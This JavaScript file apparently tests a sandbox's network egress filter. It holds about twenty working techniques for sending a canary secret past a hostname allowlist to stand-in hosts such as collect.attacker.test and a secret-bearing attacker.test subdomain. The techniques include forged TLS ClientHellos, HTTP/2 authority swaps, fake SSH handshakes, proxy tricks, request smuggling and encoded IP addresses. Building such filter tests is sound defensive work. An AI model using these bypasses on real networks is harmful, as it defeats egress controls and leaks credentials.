// Sends a secret to an allowed host, or past it, by what a filter of names could read otherwise than whoever is reached.
import { lookup } from 'node:dns/promises';
import { connect as connectHttp2 } from 'node:http2';
import { connect } from 'node:net';
import { connect as connectTls } from 'node:tls';

const secret = process.env.CANARY;
const said = (error) => console.log(error.code ?? error.message);
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

const tcp = (host, port, ...parts) =>
  new Promise((resolve) => {
    const socket = connect(port, host, async () => {
      for (const part of parts) {
        socket.write(part);
        await wait(30);
      }
      await wait(300);
      socket.destroy();
    });
    socket.on('error', said);
    socket.on('data', (chunk) => console.log(chunk.toString('latin1').split('\r\n')[0]));
    socket.on('close', resolve);
  });

const extension = (type, body) => Buffer.concat([Buffer.from([type >> 8, type & 255, body.length >> 8, body.length & 255]), body]);
/** A ClientHello (RFC 8446) with these extensions. */
function hello(...extensions) {
  const all = Buffer.concat(extensions);
  const body = Buffer.concat([
    Buffer.from([3, 3]),
    Buffer.alloc(32, 7),
    Buffer.from([0, 0, 2, 0x13, 1, 1, 0, all.length >> 8, all.length & 255]),
    all,
  ]);
  const handshake = Buffer.concat([Buffer.from([1, 0, body.length >> 8, body.length & 255]), body]);
  return Buffer.concat([Buffer.from([22, 3, 1, handshake.length >> 8, handshake.length & 255]), handshake]);
}
function serverName(name) {
  const text = Buffer.from(name);
  return extension(0, Buffer.concat([Buffer.from([0, text.length + 3, 0, 0, text.length]), text]));
}

/** A second after the handshake, which a translated machine takes seconds for itself. */
const endAfter = (socket, resolve) => {
  const late = setTimeout(() => socket.destroy(), 20_000);
  socket.on('secureConnect', () => setTimeout(() => socket.destroy(), 1000));
  socket.on('close', () => {
    clearTimeout(late);
    resolve();
  });
};

/** Over HTTP/2 to the host that is allowed, for another one behind it. */
const http2 = (authority) =>
  new Promise((resolve) => {
    const socket = connectTls({
      host: 'allowed.test',
      port: 443,
      servername: 'allowed.test',
      ALPNProtocols: ['h2'],
      rejectUnauthorized: false,
    });
    socket.on('error', said);
    socket.on('secureConnect', () => {
      const session = connectHttp2(`https://${authority}`, { createConnection: () => socket });
      session.on('error', said);
      const request = session.request({ ':method': 'POST', ':path': '/', ':authority': authority });
      request.on('response', (headers) => console.log(headers[':status']));
      request.on('error', said);
      request.resume();
      request.end(secret);
    });
    endAfter(socket, resolve);
  });

const ways = {
  'encrypted-hello': async () =>
    tcp(
      (await lookup('registry.test')).address,
      8443,
      hello(serverName('registry.test'), extension(0xfe0d, Buffer.from(`\0\0\x01\0\x01\0\0 ${secret}`))),
    ),
  'tls-on-the-plain-port': async () =>
    tcp(
      (await lookup('registry.test')).address,
      80,
      hello(serverName('registry.test'), extension(16, Buffer.from(`\0${String.fromCharCode(secret.length + 1, secret.length)}${secret}`))),
    ),
  'change-of-protocol': async () =>
    tcp(
      (await lookup('registry.test')).address,
      80,
      'GET / HTTP/1.1\r\nHost: registry.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n',
      `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${secret}`,
    ),
  'another-authority': () => http2('collect.attacker.test'),
  'push-where-only-fetching': () =>
    new Promise((resolve) => {
      const socket = connectTls({ host: 'allowed.test', port: 443, servername: 'allowed.test', rejectUnauthorized: false });
      socket.on('error', said);
      socket.on('data', (chunk) => console.log(chunk.toString('latin1').split('\r\n')[0]));
      socket.on('secureConnect', () =>
        socket.write(
          `POST /owner/repository.git/git-receive-pack HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: ${secret.length}\r\n\r\n${secret}`,
        ),
      );
      endAfter(socket, resolve);
    }),
  'another-protocol-on-the-ssh-port': async () => tcp((await lookup('registry.test')).address, 22, `\u0000${secret}`),
  'wrong-ssh-host-key': () =>
    new Promise((resolve) => {
      const text = (value) => {
        const bytes = Buffer.from(value);
        return Buffer.concat([Buffer.from([0, 0, bytes.length >> 8, bytes.length & 255]), bytes]);
      };
      const packet = (payload) => {
        const fill = 16 - ((payload.length + 5) % 8);
        const length = payload.length + 1 + fill;
        return Buffer.concat([Buffer.from([0, 0, length >> 8, length & 255, fill]), payload, Buffer.alloc(fill)]);
      };
      const lists = ['curve25519-sha256', 'ssh-ed25519', 'aes128-ctr', 'aes128-ctr', 'hmac-sha2-256', 'hmac-sha2-256', 'none', 'none', '', ''];
      const socket = connect(22, 'allowed.test', () => socket.write('SSH-2.0-thief\r\n'));
      let heard = '';
      let asked = false;
      let sent = false;
      socket.on('error', (error) => console.log(error.code));
      socket.on('data', (chunk) => {
        heard += chunk.toString('latin1');
        // Each answer is as long as it needs to be: whoever it is from is not asked.
        if (!asked && heard.includes('curve25519-sha256')) {
          asked = true;
          socket.write(packet(Buffer.concat([Buffer.from([20]), Buffer.alloc(16, 1), ...lists.map(text), Buffer.alloc(5)])));
          socket.write(packet(Buffer.concat([Buffer.from([30]), text(Buffer.alloc(32, 9))])));
        } else if (!sent && heard.includes('C'.repeat(64))) {
          sent = true;
          socket.write(packet(Buffer.from([21])));
          setTimeout(() => socket.write(secret), 300);
          setTimeout(() => socket.destroy(), 1000);
        }
      });
      setTimeout(() => socket.destroy(), 10_000);
      socket.on('close', resolve);
    }),
  'plain-text-on-the-tls-port': async () =>
    tcp((await lookup('registry.test')).address, 443, `POST / HTTP/1.1\r\nHost: registry.test\r\nContent-Length: ${secret.length}\r\n\r\n${secret}`),
  'another-name-in-a-second-hello': async () =>
    tcp((await lookup('registry.test')).address, 8443, hello(serverName('registry.test')), hello(serverName(`${secret}.attacker.test`))),
  'proxy-by-tabs': async () =>
    tcp((await lookup('registry.test')).address, 3128, `CONNECT\t${secret}.attacker.test:443\tHTTP/1.1\r\n\r\n`),
  'proxy-by-socks': async () => {
    const name = Buffer.from(`${secret}.attacker.test`);
    const asks = Buffer.concat([Buffer.from([5, 1, 0, 3, name.length]), name, Buffer.from([1, 187])]);
    return tcp((await lookup('registry.test')).address, 3128, Buffer.from([5, 1, 0]), asks);
  },
  'request-in-a-body': async () => {
    const hidden = `POST /${secret} HTTP/1.1\r\nHost: collect.attacker.test\r\n\r\n`;
    const head = `GET / HTTP/1.1\r\nHost: registry.test\r\nContent-Length: ${hidden.length}\r\n\r\n`;
    return tcp((await lookup('registry.test')).address, 80, head + hidden);
  },
  'private-address': async () => tcp('inside.test', 8080, `POST / HTTP/1.1\r\nHost: inside.test:8080\r\n\r\n${secret}`),
  'address-in-decimal': () => tcp('3325256711', 8080, secret),
  'address-in-octal': () => tcp('0306.063.0144.07', 8080, secret),
  'address-in-hexadecimal': () => tcp('0xc6.0x33.0x6407', 8080, secret),
  'address-inside-another': () => tcp('::ffff:198.51.100.7', 8080, secret),
  'address-behind-a-translation': () => tcp('64:ff9b::c633:6407', 8080, secret),
};
await ways[process.argv[2]]();
